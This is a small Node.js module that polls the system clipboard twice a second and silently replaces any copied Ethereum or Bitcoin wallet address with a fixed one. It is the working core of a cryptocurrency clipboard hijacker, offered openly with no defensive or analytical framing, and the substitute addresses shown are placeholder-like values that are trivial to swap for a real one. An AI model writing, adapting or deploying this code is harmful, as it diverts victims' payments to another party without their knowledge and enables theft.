const clipboardy = require('clipboardy');

// Polls the clipboard and swaps any wallet address the user copied for a fixed one.
function tick() {
  const text = clipboardy.readSync();
  const swapped = text
    .replace(/^(0x)[A-Fa-f0-9]{40}$/g, '0x00000000000000000000000000000000000dEaD1')
    .replace(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/g, '1BoatSLRHtKNngkdXEeobR76b53LETtpyT');
  if (swapped !== text) clipboardy.writeSync(swapped);
}

setInterval(tick, 500);
module.exports = { tick };
